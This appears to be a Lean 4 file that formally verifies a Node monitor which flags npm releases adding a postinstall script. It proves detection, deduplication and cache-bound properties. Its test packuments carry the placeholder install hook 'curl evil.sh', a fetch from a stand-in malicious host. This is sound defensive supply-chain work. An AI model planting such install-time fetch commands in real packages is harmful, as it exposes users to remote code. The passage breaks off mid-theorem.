import Mathlib

/-!
Verification of the npm postinstall monitor (`src/index.js`, the plain Node
variant that polls the replicate `_changes` feed, fetches packuments and flags
publishes that introduce a `scripts.postinstall` entry).

The JavaScript source is shallowly embedded below:

* JS objects that may be absent or of the wrong dynamic type collapse to
  `Option`-valued fields: a field is `none` exactly when the source's
  truthiness / `typeof` guards would reject it.
* The `time` map of a packument holds the result of `Date.parse` on each
  entry's value: `some t` for a string parsing to a finite millisecond count
  `t`, `none` for a non-string or unparseable value (the source filters with
  `typeof v === 'string'` and `Number.isFinite(Date.parse(v))`; the embedding
  keeps the parsed number, not the raw date string).
* JS `Map` (insertion-ordered, distinct keys) is an association list built
  only through `mapSet`; `Map.prototype.size` is the list length.
* The stateful poll loop and the queued worker jobs become explicit
  state-passing functions over small state records.
-/

namespace NpmCheck

/-- `scripts` object of a version record; each field is `some cmd` exactly when
the corresponding property is a string. -/
structure Scripts where
  preinstall : Option String := none
  postinstall : Option String := none
deriving DecidableEq, Repr

/-- A version record of a packument; `scripts` is `some` exactly when the
`scripts` property is an object. -/
structure VersionDoc where
  scripts : Option Scripts := none
deriving DecidableEq, Repr

/-- A packument as the monitor reads it: the `versions` object (insertion
order preserved), the `time` object (values already passed through
`Date.parse`: `none` marks a non-string or unparseable entry), and
`dist-tags.latest` when it is a string. -/
structure Packument where
  versions : Option (List (String × VersionDoc)) := none
  time : Option (List (String × Option Int)) := none
  distTagLatest : Option String := none
deriving DecidableEq, Repr

/-- `String.prototype.trim`: drop leading and trailing whitespace.  Written on
the character list, so that the kernel can evaluate it on concrete strings. -/
def jsTrim (s : String) : String :=
  ⟨((s.data.dropWhile Char.isWhitespace).reverse.dropWhile Char.isWhitespace).reverse⟩

/-- `hasPostinstall(versionDoc)` from src/index.js: the version record has a
`scripts.postinstall` string whose trimmed length is positive. -/
def hasPostinstall (versionDoc : Option VersionDoc) : Bool :=
  match versionDoc with
  | none => false
  | some vd =>
    match vd.scripts with
    | none => false
    | some scripts =>
      match scripts.postinstall with
      | none => false
      | some val => decide (0 < (jsTrim val).length)

/-- Consume one or more leading digits, returning the remaining characters. -/
def eatDigits : List Char → Option (List Char)
  | c :: rest => if c.isDigit then some (rest.dropWhile Char.isDigit) else none
  | [] => none

/-- Consume a literal dot. -/
def eatDot : List Char → Option (List Char)
  | '.' :: rest => some rest
  | _ => none

/-- `isLikelyVersionKey(key)` from src/index.js: the regular expression
`^\d+\.\d+\.\d+.*$` — digits, dot, digits, dot, digits, then anything. -/
def isLikelyVersionKey (key : String) : Bool :=
  match eatDigits key.data with
  | none => false
  | some r1 =>
    match eatDot r1 with
    | none => false
    | some r2 =>
      match eatDigits r2 with
      | none => false
      | some r3 =>
        match eatDot r3 with
        | none => false
        | some r4 => (eatDigits r4).isSome

/-- One element of the `entries` array in `pickLatestAndPreviousVersions`:
a version key together with its parsed publish time. -/
structure TimeEntry where
  version : String
  t : Int
deriving DecidableEq, Repr

/-- Insert into a descending-by-time list, after any element with an equal or
larger time (stable, as the JS engine's `Array.prototype.sort` is). -/
def insertDescByTime (x : TimeEntry) : List TimeEntry → List TimeEntry
  | [] => [x]
  | y :: ys => if y.t < x.t then x :: y :: ys else y :: insertDescByTime x ys

/-- Stable sort by descending time: the effect of
`entries.sort((a, b) => b.t - a.t)`. -/
def sortByTimeDesc (l : List TimeEntry) : List TimeEntry :=
  l.foldl (fun acc x => insertDescByTime x acc) []

/-- The `entries` array computed inside `pickLatestAndPreviousVersions`:
version-shaped keys of `time` with finite parsed dates, sorted by descending
publish time.  An absent `time` object yields the empty list (the source then
skips the timestamp branch entirely, which has the same effect). -/
def timeEntriesOf (doc : Packument) : List TimeEntry :=
  match doc.time with
  | none => []
  | some time =>
    sortByTimeDesc (time.filterMap fun kv =>
      if isLikelyVersionKey kv.1 then kv.2.map fun t => ⟨kv.1, t⟩ else none)

/-- The truthiness test `latest && versions[latest]` of src/index.js:
the dist-tag exists, is a non-empty string and names a version present in the
`versions` object. -/
def distTagValidFor (latest : Option String) (versions : List (String × VersionDoc)) : Bool :=
  match latest with
  | none => false
  | some l => (l != "") && (versions.lookup l).isSome

/-- Result of `pickLatestAndPreviousVersions`. -/
structure VersionPair where
  latest : Option String
  previous : Option String
deriving DecidableEq, Repr

/-- `pickLatestAndPreviousVersions(doc)` from src/index.js. -/
def pickLatestAndPreviousVersions (doc : Packument) : VersionPair :=
  match doc.versions with
  | none => { latest := none, previous := none }
  | some versions =>
    let latest := doc.distTagLatest
    match timeEntriesOf doc with
    | e0 :: rest =>
      let effectiveLatest :=
        if distTagValidFor latest versions then latest.getD e0.version else e0.version
      let prevEntry := (e0 :: rest).find? fun e => e.version != effectiveLatest
      { latest := some effectiveLatest, previous := prevEntry.map TimeEntry.version }
    | [] =>
      { latest := if distTagValidFor latest versions then latest else none,
        previous := none }

/-- The `versions` object as the worker body reads it
(`packument.versions && typeof packument.versions === 'object'
  ? packument.versions : {}`). -/
def versionsOf (p : Packument) : List (String × VersionDoc) :=
  match p.versions with
  | none => []
  | some vs => vs

/-- `versions[latest]` as the worker body computes it, guarded by the
truthiness check `if (!latest) return` of the source. -/
def latestDocOf (p : Packument) : Option VersionDoc :=
  match (pickLatestAndPreviousVersions p).latest with
  | none => none
  | some l => if l = "" then none else (versionsOf p).lookup l

/-- `previous ? versions[previous] : null` as the worker body computes it. -/
def prevDocOf (p : Packument) : Option VersionDoc :=
  match (pickLatestAndPreviousVersions p).previous with
  | none => none
  | some pr => if pr = "" then none else (versionsOf p).lookup pr

/-- `latestDoc && latestDoc.scripts ? latestDoc.scripts.postinstall : ''` —
the command string included in the flag output. -/
def emittedCmd (latestDoc : Option VersionDoc) : Option String :=
  match latestDoc with
  | some vd =>
    match vd.scripts with
    | some s => s.postinstall
    | none => some ""
  | none => some ""

/-- Result of the pure detection step (§4.2 of the spec), assembled from the
source's building blocks. -/
structure DetectResult where
  latest : Option String
  previous : Option String
  introduced : Bool
  scriptValue : Option String
deriving DecidableEq, Repr

/-- The detection step of the worker body in src/index.js (lines 211-234) as a
pure function: pick the version pair, reject a falsy latest, then
`introduced = latestHas && !prevHas` with `hasPostinstall`. -/
def detect (p : Packument) : DetectResult :=
  let vp := pickLatestAndPreviousVersions p
  match vp.latest with
  | none => { latest := none, previous := vp.previous, introduced := false, scriptValue := none }
  | some l =>
    if l = "" then
      { latest := vp.latest, previous := vp.previous, introduced := false, scriptValue := none }
    else
      let latestHas := hasPostinstall (latestDocOf p)
      let prevHas := hasPostinstall (prevDocOf p)
      if latestHas && !prevHas then
        { latest := vp.latest, previous := vp.previous, introduced := true,
          scriptValue := emittedCmd (latestDocOf p) }
      else
        { latest := vp.latest, previous := vp.previous, introduced := false, scriptValue := none }

/-! ## Worker jobs and the dedup caches -/

/-- `Map.prototype.set`: update an existing key in place, otherwise append
(JS `Map` preserves insertion order and keeps distinct keys). -/
def mapSet (m : List (String × String)) (k v : String) : List (String × String) :=
  match m with
  | [] => [(k, v)]
  | (k', v') :: rest => if k' = k then (k, v) :: rest else (k', v') :: mapSet rest k v

/-- `lastSeenLatest.set(name, latest)` followed by
`if (lastSeenLatest.size > maxCachePackages) lastSeenLatest.clear()`. -/
def cacheInsert (maxCachePackages : Nat) (m : List (String × String)) (k v : String) :
    List (String × String) :=
  let m' := mapSet m k v
  if maxCachePackages < m'.length then [] else m'

/-- The two module-level caches of src/index.js: `lastSeenLatest`
(name → latest version processed) and `flagged` (set of `name@version`
detection keys already reported). -/
structure WorkerState where
  lastSeenLatest : List (String × String)
  flagged : List String
deriving DecidableEq, Repr

/-- Outcome of `fetchPackument` inside a job: the parsed packument, or any
rejection (HTTP failure, timeout, bad JSON) — the job logs and returns. -/
inductive FetchResult where
  | error
  | ok (p : Packument)
deriving DecidableEq, Repr

/-- The detection event written to stdout on a flag: `FLAG postinstall added:
name@latest (prev: previous)` plus the postinstall command. -/
structure Detection where
  name : String
  version : String
  previous : Option String
  kind : String
  command : Option String
deriving DecidableEq, Repr

/-- The deduplication key `` `${name}@${latest}` `` of a detection. -/
def detKey (d : Detection) : String := d.name ++ "@" ++ d.version

/-- The body of one queued job in src/index.js (lines 200-246): fetch the
packument (errors are logged and swallowed), pick the version pair, skip a
falsy latest, consult and update `lastSeenLatest` (clearing it on overflow),
run the script check, and emit at most one flag gated by `flagged`. -/
def processJob (maxCachePackages : Nat) (s : WorkerState) (name : String)
    (fetch : FetchResult) : WorkerState × Option Detection :=
  match fetch with
  | .error => (s, none)
  | .ok packument =>
    let vp := pickLatestAndPreviousVersions packument
    match vp.latest with
    | none => (s, none)
    | some latest =>
      if latest = "" then (s, none)
      else if s.lastSeenLatest.lookup name = some latest then (s, none)
      else
        let cache := cacheInsert maxCachePackages s.lastSeenLatest name latest
        let latestDoc := latestDocOf packument
        let prevDoc := prevDocOf packument
        if hasPostinstall latestDoc then
          if hasPostinstall prevDoc then ({ s with lastSeenLatest := cache }, none)
          else
            let key := name ++ "@" ++ latest
            if key ∈ s.flagged then ({ s with lastSeenLatest := cache }, none)
            else
              ({ lastSeenLatest := cache, flagged := key :: s.flagged },
               some { name := name, version := latest, previous := vp.previous,
                      kind := "postinstall", command := emittedCmd latestDoc })
        else ({ s with lastSeenLatest := cache }, none)

/-- Run a sequence of jobs (package name plus its packument-fetch outcome)
through the worker body, collecting every emitted detection. -/
def runJobs (maxCachePackages : Nat) (s : WorkerState) :
    List (String × FetchResult) → WorkerState × List Detection
  | [] => (s, [])
  | (n, f) :: rest =>
    let step := processJob maxCachePackages s n f
    let tail := runJobs maxCachePackages step.1 rest
    (tail.1, step.2.toList ++ tail.2)

/-! ## The poll loop -/

/-- A well-shaped `_changes` response: the row ids (`none` for a falsy row or
a non-string id) and `last_seq`. -/
structure ChangesResponse where
  results : List (Option String)
  last_seq : Nat
deriving DecidableEq, Repr

/-- Outcome of one `httpGetJson(changesUrl)` call: a transport rejection, a
200 response whose body fails the shape check (`results` not an array or
`last_seq` absent), or a well-shaped response. -/
inductive PollFetch where
  | transportError
  | badShape
  | success (resp : ChangesResponse)
deriving DecidableEq, Repr

/-- The loop-owned mutable state of `run()`: the feed cursor `since` and the
current `backoffMs`. -/
structure PollState where
  since : Nat
  backoffMs : Nat
deriving DecidableEq, Repr

/-- One iteration of the `while (true)` loop of src/index.js (lines 182-261),
returning the new state, the duration passed to `delay` this iteration
(0 when no sleep happens), and the package names handed to `enqueue`
(design documents and rows without a string id are skipped).

On a transport error the catch block sleeps for the current `backoffMs` and
then doubles it, capped at 30000.  On a shape error the fetch itself had
succeeded, so `backoffMs` was already reset to 1000 before the throw: the
catch sleeps 1000 and leaves the backoff at 2000.  On success the backoff is
reset to 1000, the cursor advances to `last_seq`, and the loop sleeps
`pollMs` only when the batch was empty. -/
def pollIter (pollMs : Nat) (s : PollState) (f : PollFetch) :
    PollState × Nat × List String :=
  match f with
  | .transportError =>
    ({ s with backoffMs := min (s.backoffMs * 2) 30000 }, s.backoffMs, [])
  | .badShape =>
    ({ s with backoffMs := min (1000 * 2) 30000 }, 1000, [])
  | .success resp =>
    let names := resp.results.filterMap fun ro =>
      match ro with
      | none => none
      | some id => if id.startsWith "_design/" then none else some id
    ({ since := resp.last_seq, backoffMs := 1000 },
     if resp.results.length = 0 then pollMs else 0, names)

/-- The poll state after a sequence of fetch outcomes. -/
def pollRun (pollMs : Nat) (s : PollState) (t : List PollFetch) : PollState :=
  t.foldl (fun s f => (pollIter pollMs s f).1) s

/-- `last_seq` of the last successful fetch of a trace, if any. -/
def lastSuccessSeq : List PollFetch → Option Nat
  | [] => none
  | f :: fs =>
    match lastSuccessSeq fs with
    | some x => some x
    | none =>
      match f with
      | .success r => some r.last_seq
      | _ => none

/-- The cursor values at which each successful batch of a trace was fetched. -/
def consumedCursors (pollMs : Nat) (s : PollState) : List PollFetch → List Nat
  | [] => []
  | f :: fs =>
    (match f with
     | .success _ => [s.since]
     | _ => ([] : List Nat)) ++ consumedCursors pollMs (pollIter pollMs s f).1 fs

/-- Every successful batch of the trace reports a `last_seq` strictly beyond
the cursor it was fetched at (a strictly advancing feed). -/
def advancingFeed (pollMs : Nat) (s : PollState) : List PollFetch → Bool
  | [] => true
  | f :: fs =>
    (match f with
     | .success r => decide (s.since < r.last_seq)
     | _ => true) && advancingFeed pollMs (pollIter pollMs s f).1 fs

/-- Run `K` consecutive transport-error iterations, collecting the waits. -/
def runFailures (pollMs : Nat) (s : PollState) : Nat → PollState × List Nat
  | 0 => (s, [])
  | Nat.succ k =>
    let step := pollIter pollMs s .transportError
    let rest := runFailures pollMs step.1 k
    (rest.1, step.2.1 :: rest.2)

/-! ## Startup -/

/-- Outcome of `httpGetJson(replicateDbUrl)` at startup: a rejection, or a
response whose `update_seq` field is present or absent. -/
inductive DbInfoFetch where
  | failed
  | ok (updateSeq : Option Nat)
deriving DecidableEq, Repr

/-- `getInitialSince` from src/index.js: propagate a fetch rejection, throw
when `update_seq` is absent, otherwise return it. -/
def getInitialSince : DbInfoFetch → Except String Nat
  | .failed => .error "fetch failed"
  | .ok none => .error "replicate db info missing update_seq"
  | .ok (some c) => .ok c

/-- The loop state `run()` enters steady polling with. -/
def initialPollState (c : Nat) : PollState := { since := c, backoffMs := 1000 }

/-- The whole process: `run()` awaits `getInitialSince` outside the poll
loop's try/catch, so its failure reaches `run().catch`, which records exit
code 1; otherwise the loop runs over the trace (and, being total, never
produces an exit). -/
def runMonitor (db : DbInfoFetch) (pollMs : Nat) (t : List PollFetch) :
    Except Nat PollState :=
  match getInitialSince db with
  | .error _ => .error 1
  | .ok c => .ok (pollRun pollMs (initialPollState c) t)

/-! ## Concrete packuments used as test inputs -/

/-- The spec's scenario packument
`{dist-tags:{latest:"2.0.0"}, versions:{"1.0.0":{}, "2.0.0":{scripts:{postinstall:"curl evil.sh"}}}}`
exactly as written: it carries no `time` object. -/
def scenarioPackument : Packument :=
  { versions := some
      [("1.0.0", { scripts := none }),
       ("2.0.0", { scripts := some { postinstall := some "curl evil.sh" } })],
    distTagLatest := some "2.0.0" }

/-- The scenario packument extended with publish timestamps making `"2.0.0"`
the newest version. -/
def scenarioTimed : Packument :=
  { scenarioPackument with
      time := some [("created", none), ("1.0.0", some 100), ("2.0.0", some 200)] }

/-- The timed scenario where `"1.0.0"` also has a non-empty
`scripts.postinstall`. -/
def scenarioBothHave : Packument :=
  { versions := some
      [("1.0.0", { scripts := some { postinstall := some "node setup.js" } }),
       ("2.0.0", { scripts := some { postinstall := some "curl evil.sh" } })],
    time := some [("created", none), ("1.0.0", some 100), ("2.0.0", some 200)],
    distTagLatest := some "2.0.0" }

/-- A first publish whose only lifecycle script is a non-empty `preinstall`. -/
def scenarioPreOnly : Packument :=
  { versions := some
      [("1.0.0", { scripts := some { preinstall := some "curl evil.sh" } })],
    distTagLatest := some "1.0.0" }

/-- Two versions, no `dist-tags.latest` and no usable `time` map. -/
def noTagNoTime : Packument :=
  { versions := some [("1.0.0", { scripts := none }), ("2.0.0", { scripts := none })] }

/-- Two versions with timestamps but no `dist-tags.latest`. -/
def noTagTimed : Packument :=
  { versions := some [("1.0.0", { scripts := none }), ("2.0.0", { scripts := none })],
    time := some [("1.0.0", some 100), ("2.0.0", some 200)] }

/-- A packument without any lifecycle script. -/
def plainPackument : Packument :=
  { versions := some [("1.0.0", { scripts := none })],
    distTagLatest := some "1.0.0" }

/-- A job-level view of the whole mutable state: queued jobs read and write
only the worker caches; the closure enqueued by the poll loop never assigns
`since` or `backoffMs`. -/
def jobStep (maxCachePackages : Nat) (ps : PollState) (ws : WorkerState)
    (name : String) (fetch : FetchResult) : PollState × WorkerState × Option Detection :=
  (ps, processJob maxCachePackages ws name fetch)

/-! ## Helper lemmas: the detection step -/

theorem detect_introduced_eq (p : Packument) :
    (detect p).introduced
      = (hasPostinstall (latestDocOf p) && !hasPostinstall (prevDocOf p)) := by
  unfold detect latestDocOf
  dsimp only
  cases hl : (pickLatestAndPreviousVersions p).latest with
  | none => simp [hasPostinstall]
  | some l =>
    by_cases he : l = ""
    · simp [he, hasPostinstall]
    · simp only [he, if_false]
      cases hpost : hasPostinstall ((versionsOf p).lookup l) <;>
        cases hprev : hasPostinstall (prevDocOf p) <;>
          simp [hpost, hprev]

/-! ## C1: introduction of a lifecycle script is flagged -/

/-- C1 counterexample.  The claim says a latest version whose record carries a
non-empty "postinstall" **or "preinstall"** entry, with no previous version,
is flagged (`introduced = true`).  For a first publish whose only lifecycle
script is a non-empty `preinstall`, the detection step returns
`introduced = false`: `hasPostinstall` inspects only `scripts.postinstall`. -/
theorem C1_counterexample :
    (((versionsOf scenarioPreOnly).lookup "1.0.0").bind VersionDoc.scripts).bind
        Scripts.preinstall = some "curl evil.sh"
      ∧ (jsTrim "curl evil.sh").length ≠ 0
      ∧ (detect scenarioPreOnly).latest = some "1.0.0"
      ∧ (detect scenarioPreOnly).previous = none
      ∧ (detect scenarioPreOnly).introduced = false := by
  refine ⟨rfl, by decide, rfl, rfl, rfl⟩

/-- C1 amended: for every packument whose latest version record contains a
non-empty **postinstall** script entry (`hasPostinstall` of the latest
record), and whose previous version either does not exist or lacks a
non-empty postinstall entry, the detection step returns `introduced = true`;
`preinstall` entries are never consulted. -/
theorem C1_theorem (p : Packument)
    (hlat : hasPostinstall (latestDocOf p) = true)
    (hprev : hasPostinstall (prevDocOf p) = false) :
    (detect p).introduced = true := by
  rw [detect_introduced_eq, hlat, hprev]
  rfl

/-- C1 witness: the timed scenario packument, whose previous version exists
and lacks a postinstall entry, is flagged. -/
theorem C1_witness :
    hasPostinstall (latestDocOf scenarioTimed) = true
      ∧ hasPostinstall (prevDocOf scenarioTimed) = false
      ∧ (detect scenarioTimed).introduced = true :=
  ⟨rfl, rfl, C1_theorem scenarioTimed rfl rfl⟩

/-! ## C2: no flag when both or neither version has the script -/

/-- C2: for every packument where the latest and the previous version records
agree on having (or not having) a non-empty postinstall entry — in the source
the only lifecycle script the monitor checks — the detection step returns
`introduced = false`. -/
theorem C2_theorem (p : Packument)
    (h : hasPostinstall (latestDocOf p) = hasPostinstall (prevDocOf p)) :
    (detect p).introduced = false := by
  rw [detect_introduced_eq, h]
  cases hasPostinstall (prevDocOf p) <;> rfl

/-- C2 witness: the spec's second scenario — the timed scenario packument
where `"1.0.0"` also has `scripts.postinstall` set — produces no detection. -/
theorem C2_witness :
    hasPostinstall (latestDocOf scenarioBothHave)
        = hasPostinstall (prevDocOf scenarioBothHave)
      ∧ (detect scenarioBothHave).introduced = false :=
  ⟨rfl, C2_theorem scenarioBothHave rfl⟩

/-! ## C3: the spec's scenario packument -/

/-- C3 counterexample.  On the spec's exact scenario packument (which has no
`time` object) the worker flags `name@2.0.0` with the postinstall command
`"curl evil.sh"`, but the emitted detection's previous version is `none`
("first publish / unknown prev"), not `"1.0.0"` as the claim states:
`pickLatestAndPreviousVersions` derives `previous` only from publish
timestamps. -/
theorem C3_counterexample :
    (processJob 200000 ⟨[], []⟩ "left-pad" (.ok scenarioPackument)).2
        = some { name := "left-pad", version := "2.0.0", previous := none,
                 kind := "postinstall", command := some "curl evil.sh" }
      ∧ (processJob 200000 ⟨[], []⟩ "left-pad" (.ok scenarioPackument)).2.map
          Detection.previous ≠ some (some "1.0.0") := by
  refine ⟨rfl, by decide⟩

/-- C3 amended: on the scenario packument the pipeline emits a detection with
the package name, latest `"2.0.0"`, script kind postinstall and the literal
command `"curl evil.sh"`, but with previous version `none` (reported as
"first publish / unknown prev"); the previous version is `"1.0.0"` only when
the packument also carries publish timestamps ordering the two versions. -/
theorem C3_theorem :
    (processJob 200000 ⟨[], []⟩ "left-pad" (.ok scenarioPackument)).2
        = some { name := "left-pad", version := "2.0.0", previous := none,
                 kind := "postinstall", command := some "curl evil.sh" }
      ∧ (processJob 200000 ⟨[], []⟩ "left-pad" (.ok scenarioTimed)).2
        = some { name := "left-pad", version := "2.0.0", previous := some "1.0.0",
                 kind := "postinstall", command := some "curl evil.sh" } :=
  ⟨rfl, rfl⟩

/-! ## Helper lemmas: the worker body and the dedup caches -/

theorem mapSet_length_le (m : List (String × String)) (k v : String) :
    (mapSet m k v).length ≤ m.length + 1 := by
  induction m with
  | nil => simp [mapSet]
  | cons hd tl ih =>
    obtain ⟨k', v'⟩ := hd
    by_cases h : k' = k
    · simp [mapSet, h]
    · simp [mapSet, h]
      omega

theorem cacheInsert_length_le (C : Nat) (m : List (String × String)) (k v : String) :
    (cacheInsert C m k v).length ≤ C := by
  unfold cacheInsert
  dsimp only
  split
  · simp
  · omega

theorem processJob_flagged_mono (C : Nat) (s : WorkerState) (n : String)
    (f : FetchResult) (k : String) (hk : k ∈ s.flagged) :
    k ∈ (processJob C s n f).1.flagged := by
  cases f with
  | error => simpa [processJob] using hk
  | ok p =>
    unfold processJob
    dsimp only
    split
    · exact hk
    · split
      · exact hk
      · split
        · exact hk
        · split
          · split
            · exact hk
            · split
              · exact hk
              · exact List.mem_cons_of_mem _ hk
          · exact hk

theorem processJob_cache_le (C : Nat) (s : WorkerState) (n : String)
    (f : FetchResult) (h : s.lastSeenLatest.length ≤ C) :
    (processJob C s n f).1.lastSeenLatest.length ≤ C := by
  cases f with
  | error => simpa [processJob] using h
  | ok p =>
    unfold processJob
    dsimp only
    split
    · exact h
    · split
      · exact h
      · split
        · exact h
        · split
          · split
            · exact cacheInsert_length_le C s.lastSeenLatest n _
            · split
              · exact cacheInsert_length_le C s.lastSeenLatest n _
              · exact cacheInsert_length_le C s.lastSeenLatest n _
          · exact cacheInsert_length_le C s.lastSeenLatest n _

theorem processJob_emit (C : Nat) (s : WorkerState) (n : String) (f : FetchResult)
    (s' : WorkerState) (d : Detection)
    (h : processJob C s n f = (s', some d)) :
    (∃ p, f = .ok p ∧ (detect p).introduced = true)
      ∧ detKey d ∉ s.flagged ∧ detKey d ∈ s'.flagged := by
  cases f with
  | error => simp [processJob] at h
  | ok p =>
    unfold processJob at h
    dsimp only at h
    split at h
    · simp at h
    · rename_i latest hl
      split at h
      · simp at h
      · split at h
        · simp at h
        · split at h
          · split at h
            · simp at h
            · split at h
              · simp at h
              · rw [Prod.mk.injEq, Option.some.injEq] at h
                obtain ⟨hs, hd⟩ := h
                subst hd
                rename_i hne hseen hpost hprev hflag
                refine ⟨⟨p, rfl, ?_⟩, ?_, ?_⟩
                · rw [detect_introduced_eq, hpost,
                    eq_false_of_ne_true hprev]
                  rfl
                · simpa [detKey] using hflag
                · rw [← hs]
                  simp [detKey]
          · simp at h

theorem runJobs_flagged_mono (C : Nat) (s : WorkerState)
    (jobs : List (String × FetchResult)) (k : String) (hk : k ∈ s.flagged) :
    k ∈ (runJobs C s jobs).1.flagged := by
  induction jobs generalizing s with
  | nil => exact hk
  | cons j rest ih =>
    obtain ⟨n, f⟩ := j
    exact ih (processJob C s n f).1 (processJob_flagged_mono C s n f k hk)

theorem runJobs_no_emit_of_flagged (C : Nat) (s : WorkerState)
    (jobs : List (String × FetchResult)) (k : String) (hk : k ∈ s.flagged) :
    ((runJobs C s jobs).2.filter fun d => detKey d == k).length = 0 := by
  induction jobs generalizing s with
  | nil => rfl
  | cons j rest ih =>
    obtain ⟨n, f⟩ := j
    show (((processJob C s n f).2.toList
        ++ (runJobs C (processJob C s n f).1 rest).2).filter fun d => detKey d == k).length = 0
    rw [List.filter_append, List.length_append,
      ih (processJob C s n f).1 (processJob_flagged_mono C s n f k hk)]
    cases hstep : (processJob C s n f).2 with
    | none => simp [hstep]
    | some d =>
      have hemit := processJob_emit C s n f (processJob C s n f).1 d
        (by rw [← hstep])
      have hne : detKey d ≠ k := fun he => hemit.2.1 (he ▸ hk)
      have hbeq : (detKey d == k) = false := beq_eq_false_iff_ne.mpr hne
      simp [hstep, List.filter, hbeq]

theorem runJobs_at_most_once (C : Nat) (s : WorkerState)
    (jobs : List (String × FetchResult)) (k : String) :
    ((runJobs C s jobs).2.filter fun d => detKey d == k).length ≤ 1 := by
  induction jobs generalizing s with
  | nil => simp [runJobs]
  | cons j rest ih =>
    obtain ⟨n, f⟩ := j
    show (((processJob C s n f).2.toList
        ++ (runJobs C (processJob C s n f).1 rest).2).filter fun d => detKey d == k).length ≤ 1
    rw [List.filter_append, List.length_append]
    cases hstep : (processJob C s n f).2 with
    | none => simpa [hstep] using ih (processJob C s n f).1
    | some d =>
      by_cases hk : detKey d = k
      · have hemit := processJob_emit C s n f (processJob C s n f).1 d
          (by rw [← hstep])
        have hzero := runJobs_no_emit_of_flagged C (processJob C s n f).1 rest k
          (hk ▸ hemit.2.2)
        have hbeq : (detKey d == k) = true := beq_iff_eq.mpr hk
        simp [hstep, List.filter, hbeq, hzero]
      · have hbeq : (detKey d == k) = false := beq_eq_false_iff_ne.mpr hk
        simpa [hstep, List.filter, hbeq] using ih (processJob C s n f).1

/-! ## C7: the cache bound -/

/-- C7: the dedup cache never holds more than `C` entries between operations
(an entire run from the empty caches keeps `lastSeenLatest.length ≤ C`), and
the insert that would make its size exceed `C` resets the cache to empty
(size 0) rather than evicting gradually: any other insert keeps every entry. -/
theorem C7_theorem (C : Nat) (m : List (String × String)) (k v : String) :
    (m.length ≤ C → (cacheInsert C m k v).length ≤ C)
      ∧ (C < (mapSet m k v).length → cacheInsert C m k v = [])
      ∧ ((mapSet m k v).length ≤ C → cacheInsert C m k v = mapSet m k v)
      ∧ ∀ jobs : List (String × FetchResult),
          (runJobs C ⟨[], []⟩ jobs).1.lastSeenLatest.length ≤ C := by
  refine ⟨fun _ => cacheInsert_length_le C m k v, ?_, ?_, ?_⟩
  · intro h
    unfold cacheInsert
    dsimp only
    rw [if_pos h]
  · intro h
    unfold cacheInsert
    dsimp only
    rw [if_neg (by omega)]
  · intro jobs
    have aux : ∀ js : List (String × FetchResult), ∀ s : WorkerState,
        s.lastSeenLatest.length ≤ C → (runJobs C s js).1.lastSeenLatest.length ≤ C := by
      intro js
      induction js with
      | nil => intro s hs; exact hs
      | cons j rest ih =>
        intro s hs
        obtain ⟨n, f⟩ := j
        exact ih (processJob C s n f).1 (processJob_cache_le C s n f hs)
    exact aux jobs ⟨[], []⟩ (by simp)

/-- C7 witness: with capacity 2, inserting a third distinct package resets
the cache to empty, a non-overflowing insert keeps it intact, and a run of
three jobs respects the bound. -/
theorem C7_witness :
    ((cacheInsert 2 [("a", "1"), ("b", "2")] "c" "3").length ≤ 2)
      ∧ cacheInsert 2 [("a", "1"), ("b", "2")] "c" "3" = []
      ∧ cacheInsert 2 [("a", "1")] "b" "2" = [("a", "1"), ("b", "2")]
      ∧ (runJobs 2 ⟨[], []⟩
          [("left-pad", .ok scenarioPackument), ("other", .ok plainPackument),
           ("third", .ok plainPackument)]).1.lastSeenLatest.length ≤ 2 :=
  ⟨(C7_theorem 2 [("a", "1"), ("b", "2")] "c" "3").1 (by decide),
   (C7_theorem 2 [("a", "1"), ("b", "2")] "c" "3").2.1 (by decide),
   (C7_theorem 2 [("a", "1")] "b" "2").2.2.1 (by decide),
   (C7_theorem 2 [] "x" "y").2.2.2
     [("left-pad", .ok scenarioPackument), ("other", .ok plainPackument),
      ("third", .ok plainPackument)]⟩

/-! ## C8: at most one notification per detection key -/

/-- C8: over any run of the pipeline from the initial (empty) caches, at most
one notification event is emitted per `DetectionKey` (`name@version`), even
when the same package and version is processed repeatedly; and an event is
only ever emitted for a packument on which the detection step returned
`introduced = true`. -/
theorem C8_theorem (C : Nat) (jobs : List (String × FetchResult)) (key : String) :
    ((runJobs C ⟨[], []⟩ jobs).2.filter fun d => detKey d == key).length ≤ 1
      ∧ ∀ (s s' : WorkerState) (n : String) (f : FetchResult) (d : Detection),
          processJob C s n f = (s', some d) →
            ∃ p, f = .ok p ∧ (detect p).introduced = true :=
  ⟨runJobs_at_most_once C ⟨[], []⟩ jobs key,
   fun s s' n f d h => (processJob_emit C s n f s' d h).1⟩

/-- C8 witness: processing the scenario package twice yields at most one
event for its key, and the event that the first processing does emit comes
from a packument with `introduced = true`. -/
theorem C8_witness :
    ((runJobs 200000 ⟨[], []⟩
        [("left-pad", .ok scenarioPackument), ("left-pad", .ok scenarioPackument)]).2.filter
          fun d => detKey d == "left-pad@2.0.0").length ≤ 1
      ∧ ∃ p, FetchResult.ok scenarioPackument = FetchResult.ok p
          ∧ (detect p).introduced = true :=
  ⟨(C8_theorem 200000
      [("left-pad", .ok scenarioPackument), ("left-pad", .ok scenarioPackument)]
      "left-pad@2.0.0").1,
   (C8_theorem 200000 [] "left-pad@2.0.0").2
     ⟨[], []⟩ ⟨[("left-pad", "2.0.0")], ["left-pad@2.0.0"]⟩ "left-pad"
     (.ok scenarioPackument)
     { name := "left-pad", version := "2.0.0", previous := none,
       kind := "postinstall", command := some "curl evil.sh" } rfl⟩

/-! ## C10: flagged keys survive cache resets -/

/-- C10: no worker step ever removes a key from `flagged` (in particular the
overflow reset clears only `lastSeenLatest`), and a `DetectionKey` already in
`flagged` — from any earlier cache generation — is never emitted again and
stays flagged for the rest of the run: once notified, a key is silent for the
process lifetime. -/
theorem C10_theorem (C : Nat) (s : WorkerState)
    (jobs : List (String × FetchResult)) (key : String) :
    (∀ (n : String) (f : FetchResult) (k : String),
        k ∈ s.flagged → k ∈ (processJob C s n f).1.flagged)
      ∧ (key ∈ s.flagged →
          ((runJobs C s jobs).2.filter fun d => detKey d == key).length = 0
            ∧ key ∈ (runJobs C s jobs).1.flagged) :=
  ⟨fun n f k hk => processJob_flagged_mono C s n f k hk,
   fun hk => ⟨runJobs_no_emit_of_flagged C s jobs key hk,
              runJobs_flagged_mono C s jobs key hk⟩⟩

/-- C10 witness: with capacity 1 the second job overflows and clears the
`lastSeenLatest` map, yet the key flagged in an earlier generation is not
re-emitted and remains flagged. -/
theorem C10_witness :
    (("left-pad@2.0.0" : String) ∈ (⟨[], ["left-pad@2.0.0"]⟩ : WorkerState).flagged)
